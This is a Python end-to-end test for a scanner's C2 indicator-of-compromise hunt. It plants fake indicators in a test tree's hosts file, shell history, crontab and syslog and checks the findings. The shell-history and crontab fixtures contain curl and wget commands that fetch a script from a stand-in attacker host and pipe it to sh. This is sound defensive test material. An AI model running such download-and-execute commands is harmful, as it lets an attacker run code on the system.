"""End-to-end: C2 IOCs (a c2-iocs.txt given with --rules) are found in a
scanned tree's /etc/hosts, a user's shell history, a cron job and a log
under /var/log — each with its place and line — and not where the text only
looks similar; a domain IOC matches its subdomains; one finding per IOC and
place."""
import os
import sys

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import Tree, check, done, findings, jsonl, run, summary  # noqa: E402


def main():
    passed = 0
    with Tree() as t, Tree() as r:
        r.write("c2-iocs.txt", "# test C2 IOCs\nevil-c2.example;test domain\n198.51.100.0/24;test network\n"
                               "bad line here\n")
        t.write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
        t.write("etc/hosts", "127.0.0.1 localhost\n198.51.100.7 update.example.org\n")
        t.write("home/alice/.bash_history", "ls\ncurl -s http://cdn.evil-c2.example/x.sh | sh\n"
                                            "curl -s http://notevil-c2.example/\n")
        t.write("etc/crontab", "SHELL=/bin/sh\n*/5 * * * * root wget -q -O- http://evil-c2.example/p | sh\n")
        t.write("var/log/syslog", "ok\n" * 10 + "connect to 198.51.100.99 port 443\n" + "ok\n")
        t.write("var/log/old.gz", "198.51.100.1\n")  # compressed rotations are skipped
        code, out, err = run("scan", "--root", t.path, "--only", "hunt", "--rules", r.path, "--format", "jsonl",
                             "--no-db", "--fail-on", "none", timeout=300)
        check(code == 0, f"exit 0, got {code}: {err[-2000:]}")
        check("c2-iocs.txt:4" in err, "the bad IOC line is reported with file and line")
        lines = jsonl(out)
        fs = [f for f in findings(lines) if f["rule"].startswith("ioc-c2:")]
        got = {(f["rule"], f["evidence"].get("path") or f["evidence"].get("cron"), f["evidence"].get("line"))
               for f in fs}
        want = {
            ("ioc-c2:c2-iocs.txt:3", "/etc/hosts", 2),
            ("ioc-c2:c2-iocs.txt:2", "/home/alice/.bash_history", 2),
            ("ioc-c2:c2-iocs.txt:2", "/etc/crontab", 2),
            ("ioc-c2:c2-iocs.txt:3", "/var/log/syslog", 11),
        }
        check(want <= got, f"every planted indicator found: missing {want - got}")
        passed += 3
        check(len(fs) == len(want), f"nothing else: {sorted(got)}")
        hist = [f for f in fs if f["evidence"].get("path") == "/home/alice/.bash_history"][0]
        check(hist["evidence"]["indicator"] == "cdn.evil-c2.example" and hist["severity"] == "high"
              and "T1071" in hist["attack"], f"indicator, severity, ATT&CK: {hist}")
        s = summary(lines)["modules"]["hunt"]
        check(s["rules"]["c2_iocs"] == 2 and s["rules"]["ioc_bad_lines"] == 1 and s["c2_checked"] >= 4, f"{s}")
        passed += 3
    done("test_hunt_c2", passed)


if __name__ == "__main__":
    main()
